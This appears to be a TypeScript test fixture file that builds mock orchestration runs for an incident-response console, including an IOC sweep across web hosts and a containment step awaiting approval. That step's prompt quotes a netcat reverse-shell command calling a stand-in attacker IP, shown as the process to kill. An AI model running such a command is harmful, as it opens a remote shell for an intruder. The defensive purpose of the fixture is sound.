import type { RunView } from '../../../../src/protocol/api.js';
import type { OrchestrationRunView, StepView } from '../../../../src/protocol/orchestration-api.js';
import { NOW } from '../findings/fixtures.js';

export { NOW };

type StepHost = StepView['hosts'][number];

/** A run id as the CP makes them, numbered. */
export const runId = (n: number): string => `r_01JHK3Q4${String(n).padStart(4, '0')}ABCDEFGHJKMNPQ`;

/** A step with defaults (pending, no hosts). */
export function step(id: string, over: Partial<StepView> = {}): StepView {
  return { id, agent: 'host-check', status: 'pending', prompt: null, inputs: null, hosts: [], result: null, error: null, started_at: null, ended_at: null, decided_by: null, ...over };
}

/** A step host. */
export function stepHost(host: string, status: StepHost['status'], n: number, error: string | null = null): StepHost {
  return { host, status, run_id: status === 'pending' ? null : runId(n), result: null, findings: 0, error };
}

/**
 * A fan-out of 10 hosts half done: web-01..05 finished (web-03 failed with an error), web-06..07 running,
 * web-08..10 pending.
 */
export function halfDoneHosts(): StepHost[] {
  return Array.from({ length: 10 }, (_, i) => {
    const name = `web-${String(i + 1).padStart(2, '0')}`;
    if (i === 2) return stepHost(name, 'failed', i + 1, 'collector ps exited 1: permission denied');
    if (i < 5) return stepHost(name, 'completed', i + 1);
    if (i < 7) return stepHost(name, 'running', i + 1);
    return stepHost(name, 'pending', i + 1);
  });
}

/** An orchestration run with defaults. */
export function orchRun(id: string, over: Partial<OrchestrationRunView> = {}): OrchestrationRunView {
  return {
    id,
    name: 'fleet-ioc-sweep',
    status: 'running',
    trigger: { ioc: '203.0.113.7' },
    triggered_by: 'alice',
    created_at: NOW - 300_000,
    updated_at: NOW - 10_000,
    ended_at: null,
    error: null,
    steps: [],
    ...over,
  };
}

/** A run that swept 10 hosts, half done, with a contain step still to come. */
export function fanOutRun(): OrchestrationRunView {
  return orchRun('o_01JHK3Q4FANOUT0000000000AB', {
    steps: [
      step('select', { agent: 'inventory', status: 'completed', hosts: [stepHost('ops-01', 'completed', 90)], started_at: NOW - 300_000, ended_at: NOW - 280_000 }),
      step('sweep', { agent: 'ioc-sweep', status: 'running', prompt: 'Look for 203.0.113.7', inputs: { ioc: '203.0.113.7' }, hosts: halfDoneHosts(), started_at: NOW - 270_000 }),
      step('contain', { agent: 'contain' }),
    ],
  });
}

/** A run waiting for approval of its `contain` step. */
export function approvalRun(): OrchestrationRunView {
  return orchRun('o_01JHK3Q4APPROVAL00000000AB', {
    name: 'c2-callback-triage',
    status: 'approval_required',
    trigger: { finding_id: 4242, host: 'web-03' },
    triggered_by: 'finding-trigger',
    steps: [
      step('triage', { agent: 'ioc-sweep', status: 'completed', hosts: [stepHost('web-03', 'completed', 50)], started_at: NOW - 200_000, ended_at: NOW - 150_000 }),
      step('contain', {
        agent: 'contain',
        status: 'waiting_approval',
        prompt: 'Kill process 4242 (nc -e /bin/sh 203.0.113.7 4444) on web-03 and block 203.0.113.7 outbound.',
        inputs: { pid: '4242', ip: '203.0.113.7' },
        targets: { kind: 'hosts', hosts: ['web-03'] },
        started_at: NOW - 140_000,
      }),
      step('report', { agent: 'notify' }),
    ],
  });
}

/** An ad-hoc agent run. */
export function agentRun(n: number, over: Partial<RunView> = {}): RunView {
  return {
    run_id: runId(n),
    host: 'web-01',
    agent: 'host-check',
    prompt: '',
    status: 'completed',
    created_at: NOW - 60_000 * n,
    started_at: NOW - 60_000 * n + 500,
    ended_at: NOW - 60_000 * n + 9_000,
    timeout_ms: 300_000,
    error: null,
    findings: n % 3,
    events: 12,
    created_by: 'alice',
    route: null,
    ...over,
  };
}
